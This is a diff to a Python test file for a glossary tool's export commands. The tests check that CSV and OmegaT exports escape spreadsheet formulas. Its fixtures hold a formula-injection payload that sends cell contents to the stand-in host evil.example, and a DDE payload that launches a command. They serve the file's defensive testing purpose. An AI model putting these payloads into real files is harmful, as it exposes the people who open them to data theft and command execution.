@@ -19,12 +19,12 @@ from web import create_app
 ATTACK = '=HYPERLINK("https://evil.example/?"&A2&B2,"Click for the source")'
 
 
-def accepted_attack(terms: Path, tmp_path: Path) -> Path:
+def accepted_attack(terms: Path, tmp_path: Path, en: str = "formula test") -> Path:
     """The attack arrives as a public suggestion that an editor accepts."""
     store = tmp_path / "suggestions.db"
     with SuggestionStore(store) as suggestions:
         number = suggestions.add(
-            {"kind": "new", "zh": "测试公式", "en": "formula test", "domain": "economy",
+            {"kind": "new", "zh": "测试公式", "en": en, "domain": "economy",
              "definition": ATTACK, "note": "@SUM(1+1)*cmd|' /C calc'!A0"}
         )  # fmt: skip
     result = run_glossary(
@@ -36,9 +36,9 @@ def accepted_attack(terms: Path, tmp_path: Path) -> Path:
     return db
 
 
-def exported(terms: Path, tmp_path: Path, name: str) -> Path:
+def exported(terms: Path, tmp_path: Path, name: str, en: str = "formula test") -> Path:
     """The accepted attack, exported by the CLI in one format."""
-    db = accepted_attack(terms, tmp_path)
+    db = accepted_attack(terms, tmp_path, en)
     out = tmp_path / f"out.{name}"
     result = run_glossary("--terms", terms, "--db", db, "export", "--format", name, "-o", out)
     assert result.returncode == 0, text(result)
@@ -58,6 +58,17 @@ def test_the_csv_export_writes_formulas_as_text(mini_terms: Path, tmp_path: Path
 def test_a_csv_export_imports_back_unchanged(mini_terms: Path, tmp_path: Path) -> None:
     out = exported(mini_terms, tmp_path, "csv")
     result = run_glossary("--terms", mini_terms, "import", out, "--dry-run")
+    assert result.returncode == 0, text(result)
+    assert "0 new, 0 updated, 4 unchanged" in result.stdout
+
+
+def test_the_omegat_export_writes_formulas_as_text(mini_terms: Path, tmp_path: Path) -> None:
+    """The OmegaT glossary is tab-separated text a spreadsheet opens too."""
+    out = exported(mini_terms, tmp_path, "omegat", en=ATTACK)
+    cells = [cell for line in out.read_text("utf-8").splitlines()[1:] for cell in line.split("\t")]
+    assert "'" + ATTACK in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    result = run_glossary("--terms", mini_terms, "import", out, "--format", "omegat", "--dry-run")
     assert result.returncode == 0, text(result)
     assert "0 new, 0 updated, 4 unchanged" in result.stdout
 
